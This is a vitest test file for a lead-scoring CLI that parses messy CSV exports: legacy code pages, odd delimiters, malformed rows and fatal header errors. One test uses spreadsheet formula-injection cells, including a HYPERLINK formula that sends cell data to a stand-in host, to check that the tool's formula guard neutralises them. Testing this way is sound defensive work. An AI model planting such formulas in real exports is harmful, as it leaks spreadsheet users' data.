// Real-world messy exports (test/fixtures/messy/, written by make.mjs there), each scored by the real
// bin/leadscore: rows scored (with the fit and engagement that show their cells were read right), rows
// rejected with reason and line, the exit code, and for fatal problems the LS1xx code and untouched
// outputs. Models: test/fixtures/messy/model*.yaml; as-of 2026-11-01.
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BIN, ROOT, readCsv, tempDir } from '../helpers/cli.js';

const FIX = join(ROOT, 'test/fixtures/messy');
const fx = (name: string): string => join(FIX, name);

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
  out: string;
  scored: Record<string, string>[];
  rejects: { source: string; line: number; reason: string; detail: string; row: string }[];
  summary: { counts: Record<string, number>; data_quality: Record<string, unknown> } | undefined;
}

function cli(args: string[], input?: Buffer | string) {
  const r = spawnSync(process.execPath, [BIN, ...args], { cwd: ROOT, input, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const runs = new Map<string, Run>();

/** Score `leads` (a fixture name, or - for stdin) into a fresh OUTDIR; the same run is made once per test file. */
function score(leads: string, opts: { model?: string; activities?: string[]; args?: string[]; out?: string; input?: Buffer | string } = {}): Run {
  const key = opts.out === undefined && opts.input === undefined ? JSON.stringify([leads, opts]) : undefined;
  const cached = key ? runs.get(key) : undefined;
  if (cached) return cached;
  const r = scoreOnce(leads, opts);
  if (key) runs.set(key, r);
  return r;
}

function scoreOnce(leads: string, opts: { model?: string; activities?: string[]; args?: string[]; out?: string; input?: Buffer | string }): Run {
  const out = opts.out ?? join(tempDir('leadscore-messy-'), 'out');
  const args = ['score', '-m', fx(opts.model ?? 'model.yaml'), '-l', leads === '-' ? '-' : fx(leads), '-o', out, '--as-of', '2026-11-01', '-q'];
  for (const a of opts.activities ?? []) args.push('-a', fx(a));
  const r = cli([...args, ...(opts.args ?? [])], opts.input);
  const has = (f: string) => existsSync(join(out, f));
  return {
    ...r,
    out,
    scored: has('scored.csv') ? readCsv(join(out, 'scored.csv')) : [],
    rejects: has('rejects.csv')
      ? readCsv(join(out, 'rejects.csv')).map((x) => ({ source: x.source!, line: Number(x.line), reason: x.reason!, detail: x.detail!, row: x.row! }))
      : [],
    summary: has('summary.json') ? JSON.parse(readFileSync(join(out, 'summary.json'), 'utf8')) : undefined,
  };
}

/** id (first column, whatever its name) -> [fit, engagement] of every scored lead. */
const points = (r: Run): Record<string, [number, number]> =>
  Object.fromEntries(r.scored.map((x) => [Object.values(x)[0]!, [Number(x.fit), Number(x.engagement)]]));
const rejected = (r: Run): [number, string][] => r.rejects.map((x) => [x.line, x.reason]);

/** Every lead row is scored or rejected, and the summary agrees with the files. */
function accounted(r: Run): void {
  const c = r.summary!.counts;
  expect(c.scored).toBe(r.scored.length);
  expect(c.leads_read).toBe(c.scored! + c.rejected!);
  expect(c.rejected! + c.activities_rejected!).toBe(r.rejects.length);
}

interface Case {
  name: string;
  file: string;
  model?: string;
  activities?: string[];
  args?: string[];
  /** id -> [fit, engagement] */
  scored: Record<string, [number, number]>;
  /** [line, reason] in rejects.csv */
  rejects?: [number, string][];
}

const cases: Case[] = [
  {
    name: 'Excel semicolon export with a UTF-8 BOM and CRLF',
    file: 'semicolon-bom.csv',
    scored: { L1: [50, 0], L2: [30, 0], L3: [5, 0] },
  },
  {
    name: 'Turkish windows-1254 export: decimal commas, thousands dots, DD.MM.YYYY dates and activities',
    file: 'turkish-windows-1254.csv',
    model: 'model-tr.yaml',
    activities: ['turkish-windows-1254-activities.csv'],
    args: ['--encoding', 'windows-1254'],
    // T1: Bilgi İşlem 20 + 1.250 employees 30 + revenue 2.500.000,50 10 + signed up 03.10.2026 5;
    //     demo 28.10.2026 14:30 40 + e-mail open 01.11.2026 (at as-of) 5
    // T2: Satış 10 + 85 employees 5 + signed up 15.09.2026 5; e-mail open 5 + demo (ISO date) 40
    // T3: 1.050 employees 30; demo 02.11.2026 is after as-of; 31.02.2026 is rejected
    scored: { T1: [65, 45], T2: [20, 45], T3: [30, 0] },
    rejects: [[7, 'bad_timestamp']],
  },
  {
    name: 'Polish windows-1250 export with thousands dots',
    file: 'polish-windows-1250.csv',
    model: 'model-intl.yaml',
    args: ['--encoding', 'windows-1250'],
    scored: { P1: [45, 0], P2: [5, 0] }, // Księgowość 15 + 1.500 employees 30
  },
  {
    name: 'Romanian iso-8859-2 export with decimal commas',
    file: 'romanian-iso-8859-2.csv',
    model: 'model-intl.yaml',
    args: ['--encoding', 'iso-8859-2'],
    scored: { R1: [50, 0], R2: [10, 0] }, // Vânzări 10 + 2.300 employees 30 + revenue 1.200.000,75 10
  },
  {
    name: 'Excel "Unicode Text": UTF-16LE with BOM, tab-delimited, no --encoding needed',
    file: 'utf16le-bom.txt',
    scored: { U1: [50, 0], U2: [30, 0] },
  },
  {
    name: 'CRLF line ends (the last column keeps no \\r)',
    file: 'crlf.csv',
    scored: { C1: [40, 0], C2: [15, 0], C3: [20, 0] },
  },
  {
    name: 'quoted fields with delimiters, doubled quotes and newlines; line numbers after a 3-line record',
    file: 'quoted-fields.csv',
    scored: { Q1: [40, 0], Q2: [40, 0], Q3: [25, 0], Q4: [0, 0], Q5: [50, 0] },
    rejects: [[8, 'missing_id']],
  },
  {
    name: 'a trailing delimiter on every line',
    file: 'trailing-delimiter.csv',
    scored: { D1: [40, 0], D2: [40, 0], D3: [5, 0] },
  },
  { name: 'tab-delimited', file: 'tab-delimited.tsv', scored: { B1: [50, 0], B2: [15, 0] } },
  { name: 'pipe-delimited', file: 'pipe-delimited.csv', scored: { X1: [40, 0], X2: [40, 0], X3: [0, 0] } },
  { name: 'gzip (.csv.gz)', file: 'leads.csv.gz', scored: { G1: [50, 0], G2: [30, 0], G3: [5, 0], G4: [20, 0] } },
  {
    name: 'an unbalanced quote mid-file',
    file: 'unbalanced-quote.csv',
    scored: { K1: [40, 0], K3: [30, 0], K4: [40, 0] },
    rejects: [[3, 'unbalanced_quote']],
  },
  {
    name: 'rows with too many and too few fields',
    file: 'wrong-field-count.csv',
    scored: { W1: [40, 0], W4: [40, 0], W5: [30, 0] },
    rejects: [[3, 'wrong_field_count'], [4, 'wrong_field_count']],
  },
  {
    name: 'empty ids (empty, spaces, quoted empty)',
    file: 'empty-ids.csv',
    scored: { E1: [40, 0], E5: [40, 0] },
    rejects: [[3, 'missing_id'], [4, 'missing_id'], [5, 'missing_id']],
  },
  {
    name: 'duplicate ids (the first is scored; ids are trimmed)',
    file: 'duplicate-ids.csv',
    scored: { M1: [40, 0], M2: [40, 0], M3: [5, 0] },
    rejects: [[4, 'duplicate_id'], [5, 'duplicate_id']],
  },
  {
    name: 'oversized fields (1.2 M characters), unquoted and quoted',
    file: 'oversized-field.csv.gz',
    scored: { O1: [40, 0], O3: [40, 0], O5: [40, 0] },
    rejects: [[3, 'field_too_large'], [5, 'field_too_large']],
  },
  {
    name: 'Select / N/A / - placeholders are missing values; "lots" is not a number',
    file: 'select-placeholders.csv',
    scored: { S1: [0, 0], S2: [20, 0], S3: [0, 0], S4: [10, 0], S5: [50, 0], S6: [20, 0] },
  },
  {
    name: 'blank lines before the header, between rows and at the end; lines of delimiters or spaces',
    file: 'blank-lines.csv',
    scored: { N1: [40, 0], N2: [40, 0], N3: [40, 0] },
    rejects: [[9, 'missing_id']],
  },
  {
    name: 'activities whose timestamp, lead id or type is missing or does not parse',
    file: 'leads-l123.csv',
    activities: ['activities-bad-timestamps.csv'],
    scored: { L1: [40, 5], L2: [15, 40], L3: [5, 0] },
    rejects: [[3, 'bad_timestamp'], [4, 'missing_timestamp'], [5, 'bad_timestamp'], [6, 'bad_timestamp'], [7, 'missing_lead_id'], [8, 'missing_type'], [9, 'missing_type'], [11, 'bad_timestamp']],
  },
  {
    name: 'activities with epoch seconds, epoch milliseconds, offsets and "YYYY-MM-DD HH:mm:ss"',
    file: 'leads-l123.csv',
    activities: ['activities-epoch.csv'],
    scored: { L1: [40, 45], L2: [15, 10], L3: [5, 0] },
  },
  {
    name: 'a header with other case and spaces than the model',
    file: 'header-case-spaces.csv',
    scored: { A1: [50, 0], A2: [15, 0] },
  },
  {
    name: 'cells that a spreadsheet would run as formulas',
    file: 'formula-cells.csv',
    scored: { F1: [40, 0], F2: [40, 0], F3: [40, 0], F4: [25, 0] },
    rejects: [[5, 'wrong_field_count']],
  },
  { name: 'a header and no rows', file: 'header-only.csv', scored: {} },
];

describe('messy exports: rows scored and rejected', () => {
  it('has at least 20 fixture files, each used by a test', () => {
    const files = readdirSync(FIX).filter((f) => !f.endsWith('.mjs') && !f.endsWith('.yaml'));
    expect(files.length).toBeGreaterThanOrEqual(20);
    const src = readFileSync(join(ROOT, 'test/io/messy.test.ts'), 'utf8');
    for (const f of files) expect(src, f).toContain(`'${f}'`);
  });

  it.each(cases.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const r = score(c.file, { ...(c.model ? { model: c.model } : {}), ...(c.activities ? { activities: c.activities } : {}), ...(c.args ? { args: c.args } : {}) });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(points(r)).toEqual(c.scored);
    expect(rejected(r)).toEqual(c.rejects ?? []);
    for (const x of r.rejects) expect(x.source).toContain(c.activities && x.reason !== 'missing_id' && x.reason !== 'duplicate_id' ? c.activities[0]! : c.file);
    accounted(r);
  });
});

describe('messy exports: what the cells became', () => {
  it('decodes legacy code pages (names in scored.csv are UTF-8) and reads decimal commas per model', () => {
    const tr = score('turkish-windows-1254.csv', { model: 'model-tr.yaml', activities: ['turkish-windows-1254-activities.csv'], args: ['--encoding', 'windows-1254'] });
    expect(tr.scored.map((x) => x.ad)).toEqual(['Şule Çelik', 'İsmail Öztürk', 'Ayşe Güneş']);
    expect(tr.scored[0]).toMatchObject({ ciro: '2.500.000,50', kayit_tarihi: '03.10.2026', score: '100.00' }); // cells unchanged
    expect(tr.summary!.counts).toMatchObject({ activities_read: 6, activities_used: 4, activities_rejected: 1 });
    expect(tr.summary!.counts.activities_ignored).toMatchObject({ after_as_of: 1 });
    const pl = score('polish-windows-1250.csv', { model: 'model-intl.yaml', args: ['--encoding', 'windows-1250'] });
    expect(pl.scored.map((x) => x.name)).toEqual(['Łukasz Wójcik', 'Małgorzata Żak']);
    const ro = score('romanian-iso-8859-2.csv', { model: 'model-intl.yaml', args: ['--encoding', 'iso-8859-2'] });
    expect(ro.scored.map((x) => x.name)).toEqual(['Ştefan Ţurcanu', 'Ioana Mureşan']);
    const u16 = score('utf16le-bom.txt');
    expect(u16.scored.map((x) => x.name)).toEqual(['Jürgen Groß', '李小龍']);
  });

  it('without --encoding a legacy file reads as mojibake: the department no longer matches', () => {
    const r = score('polish-windows-1250.csv', { model: 'model-intl.yaml' });
    expect(r.code).toBe(0);
    expect(r.scored[0]!.name).toContain('\ufffd');
    expect(points(r).P1).toEqual([30, 0]); // employees only
  });

  it('the same decimal-comma file under number_format point reads 1.250 as 1.25', () => {
    // model.yaml is `point`: "1.500" employees is 1.5 (5 points), not 1500 (30 points)
    const r = score('polish-windows-1250.csv', { args: ['--encoding', 'windows-1250'] });
    expect(points(r).P1).toEqual([5, 0]);
  });

  it('keeps quoted cells intact in scored.csv (delimiters, quotes, newlines)', () => {
    const r = score('quoted-fields.csv');
    const byId = Object.fromEntries(r.scored.map((x) => [x.lead_id, x]));
    expect(byId.Q1!.name).toBe('Smith, Jane');
    expect(byId.Q2!.name).toBe('The "Boss" O\'Neil');
    expect(byId.Q3!.name).toBe('first line\nsecond line, with comma\nthird "line"');
    expect(byId.Q5!.employees).toBe('2,000');
  });

  it('drops the trailing delimiter: no empty column in scored.csv', () => {
    const r = score('trailing-delimiter.csv');
    expect(Object.keys(r.scored[0]!).slice(0, 5)).toEqual(['lead_id', 'name', 'department', 'employees', 'rank']);
  });

  it('counts placeholders as missing, and a value that is not a number per column', () => {
    const r = score('select-placeholders.csv');
    expect(r.summary!.data_quality.unparsable_values).toEqual({ employees: 1 });
  });

  it('counts blank lines in the summary', () => {
    const r = score('blank-lines.csv');
    // 2 before the header, 1 empty, 1 ",,,", 1 of spaces, 2 at the end
    expect(r.summary!.data_quality.blank_lines).toBe(7);
    expect(r.summary!.counts.leads_read).toBe(4);
  });

  it('an oversized field is rejected with a short preview, not the whole field', () => {
    const r = score('oversized-field.csv.gz');
    for (const x of r.rejects) expect(x.row.length).toBeLessThan(1000);
    expect(r.rejects[0]!.row.startsWith('O2,Bob,IT,100,xxx')).toBe(true);
    expect(r.rejects[1]!.row.startsWith('O4,Di,IT,100,"xxx')).toBe(true);
  });

  it('neutralises formula cells by default, in scored.csv and in rejects.csv; --no-formula-guard keeps them', () => {
    const r = score('formula-cells.csv');
    expect(r.scored.map((x) => x.name)).toEqual(['\'=HYPERLINK("http://x.example/?"&A1)', "'+1-1", "'@SUM(A1)", "'-2+3"]);
    expect(r.rejects[0]!.row).toBe("'=1+1,x");
    const off = score('formula-cells.csv', { args: ['--no-formula-guard'] });
    expect(off.scored.map((x) => x.name)).toEqual(['=HYPERLINK("http://x.example/?"&A1)', '+1-1', '@SUM(A1)', '-2+3']);
    expect(off.rejects[0]!.row).toBe('=1+1,x');
  });

  it('reads leads from stdin (-), also gzip-compressed', () => {
    const plain = score('-', { input: readFileSync(fx('semicolon-bom.csv')) });
    expect(plain.code).toBe(0);
    expect(points(plain)).toEqual({ L1: [50, 0], L2: [30, 0], L3: [5, 0] });
    const gz = score('-', { input: readFileSync(fx('leads.csv.gz')) });
    expect(gz.code).toBe(0);
    expect(points(gz)).toEqual({ G1: [50, 0], G2: [30, 0], G3: [5, 0], G4: [20, 0] });
    expect(gz.summary!.counts.leads_read).toBe(4);
  });
});

describe('validate -l/-a reads headers as score does', () => {
  it.each(['semicolon-bom.csv', 'utf16le-bom.txt', 'leads.csv.gz', 'blank-lines.csv', 'header-case-spaces.csv', 'trailing-delimiter.csv', 'pipe-delimited.csv'])(
    '%s: every column of the model is found',
    (file) => {
      const r = cli(['validate', fx('model.yaml'), '-l', fx(file), '-a', fx('activities-epoch.csv'), '--json']);
      expect(r.code).toBe(0);
      expect((JSON.parse(r.stdout) as { errors: unknown[] }).errors).toEqual([]);
    },
  );

  it('a missing column is LS090; an unreadable header (duplicate names) is LS092', () => {
    const missing = cli(['validate', fx('model.yaml'), '-l', fx('missing-column.csv'), '--json']);
    expect(missing.code).toBe(2);
    expect((JSON.parse(missing.stdout) as { errors: { code: string }[] }).errors.map((e) => e.code)).toEqual(['LS090']);
    const dup = cli(['validate', fx('model.yaml'), '-l', fx('duplicate-headers.csv'), '--json']);
    expect((JSON.parse(dup.stdout) as { errors: { code: string }[] }).errors.map((e) => e.code)).toEqual(['LS092']);
  });
});

describe('messy exports: problems that stop the run (exit 3, nothing written or replaced)', () => {
  const fatal: [string, string, string[]][] = [
    ['duplicate header names', 'duplicate-headers.csv', []],
    ['the id column is missing', 'missing-column.csv', []],
    ['an empty file', 'empty.csv', []],
    ['an unknown --encoding', 'leads-l123.csv', ['--encoding', 'klingon']],
  ];
  const codes: Record<string, string> = {
    'duplicate-headers.csv': 'LS103',
    'missing-column.csv': 'LS110',
    'empty.csv': 'LS102',
    'leads-l123.csv': 'LS105',
  };

  it.each(fatal)('%s: no output folder is created; yesterday\'s outputs stay byte-identical', (_name, file, args) => {
    const r = score(file, { args });
    expect(r.code).toBe(3);
    expect(r.stderr).toContain(codes[file]!);
    expect(r.stderr).not.toMatch(/\n\s+at /); // no stack trace
    expect(existsSync(r.out) ? readdirSync(r.out) : []).toEqual([]);

    const out = join(tempDir('leadscore-messy-'), 'out');
    expect(score('leads-l123.csv', { out }).code).toBe(0);
    const before = snapshot(out);
    const again = score(file, { args, out });
    expect(again.code).toBe(3);
    expect(snapshot(out)).toEqual(before);
  });

  it('names the two positions of a duplicate header, and the missing column with the closest ones', () => {
    expect(score('duplicate-headers.csv').stderr).toMatch(/\b2\b.*\b4\b/);
    const r = score('missing-column.csv');
    expect(r.stderr).toContain('"lead_id"');
    expect(r.stderr).toContain('"leadid"');
    expect(r.stderr).toContain('missing-column.csv:1');
  });

  it('--strict: any reject exits 3 (LS120) and replaces nothing', () => {
    const out = join(tempDir('leadscore-messy-'), 'out');
    expect(score('leads-l123.csv', { out }).code).toBe(0);
    const before = snapshot(out);
    const r = score('wrong-field-count.csv', { out, args: ['--strict'] });
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('LS120');
    expect(snapshot(out)).toEqual(before);
    expect(score('leads-l123.csv', { args: ['--strict'] }).code).toBe(0);
  });

  it('--max-reject-rate: exits 3 (LS121) when a file has more rejects than the rate, leads or activities', () => {
    // wrong-field-count.csv: 2 of 5 rows rejected (40 %)
    expect(score('wrong-field-count.csv', { args: ['--max-reject-rate', '0.5'] }).code).toBe(0);
    expect(score('wrong-field-count.csv', { args: ['--max-reject-rate', '0.4'] }).code).toBe(0);
    const over = score('wrong-field-count.csv', { args: ['--max-reject-rate', '0.39'] });
    expect(over.code).toBe(3);
    expect(over.stderr).toContain('LS121');
    expect(existsSync(over.out) ? readdirSync(over.out) : []).toEqual([]);
    // activities-bad-timestamps.csv: 8 of 10 rows rejected
    const act = score('leads-l123.csv', { activities: ['activities-bad-timestamps.csv'], args: ['--max-reject-rate', '0.5'] });
    expect(act.code).toBe(3);
    expect(act.stderr).toContain('LS121');
    expect(act.stderr).toContain('activities-bad-timestamps.csv');
  });

  it('a model with a bad number_format or date_format is invalid (exit 2, LS014), nothing written', () => {
    const v = cli(['validate', fx('model-bad-formats.yaml'), '--json']);
    expect(v.code).toBe(2);
    const codesOf = (JSON.parse(v.stdout) as { errors: { code: string }[] }).errors.map((e) => e.code);
    expect(codesOf).toEqual(['LS014', 'LS014']);
    const r = score('leads-l123.csv', { model: 'model-bad-formats.yaml' });
    expect(r.code).toBe(2);
    expect(existsSync(r.out)).toBe(false);
  });
});

function snapshot(dir: string): Record<string, string> {
  return Object.fromEntries(readdirSync(dir).filter((f) => !f.startsWith('.')).sort().map((f) => [f, readFileSync(join(dir, f)).toString('base64')]));
}
